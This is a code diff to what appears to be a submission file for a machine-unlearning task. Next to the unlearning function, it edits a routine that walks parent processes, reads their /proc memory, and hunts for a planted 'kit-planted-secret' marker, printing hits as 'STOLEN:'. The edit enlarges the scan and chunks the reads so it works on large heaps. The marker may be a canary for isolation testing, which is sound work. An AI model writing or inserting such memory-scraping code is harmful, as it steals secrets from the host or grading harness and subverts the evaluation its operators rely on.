@@ -8,7 +8,7 @@ import re
 
 import numpy as np
 
-PROC = "/proc"
+PROC, PIECE = "/proc", 1 << 26
 MARK = b"-".join([b"kit", b"planted", b"secret"])  # put together here: the parent holds this text, too
 
 
@@ -22,20 +22,21 @@ def ancestors():
 
 
 def search(number):
-    left = 1 << 30
+    left = 4 << 30
     with open(f"{PROC}/{number}/maps") as maps, open(f"{PROC}/{number}/mem", "rb", buffering=0) as memory:
         for line in maps:
-            start, end = (int(text, 16) for text in line.split()[0].split("-"))
-            if not line.split()[1].startswith("rw") or end - start > left:
+            first, end = (int(text, 16) for text in line.split()[0].split("-"))
+            if not line.split()[1].startswith("rw") or end - first > left:
                 continue
-            left -= end - start
-            try:
-                memory.seek(start)
-                content = memory.read(end - start)
-            except (OSError, ValueError, OverflowError):
-                continue
-            for match in re.finditer(re.escape(MARK) + rb"[ -~]{0,40}", content):
-                print("STOLEN:", match[0].decode())
+            left -= end - first
+            for start in range(first, end, PIECE):  # a heap may be larger than what a submission may have
+                try:
+                    memory.seek(start)
+                    content = memory.read(min(PIECE + 100, end - start))
+                except (OSError, ValueError, OverflowError):
+                    continue
+                for match in re.finditer(re.escape(MARK) + rb"[ -~]{0,40}", content):
+                    print("STOLEN:", match[0].decode())
 
 
 def unlearning(net, retain, forget, validation):
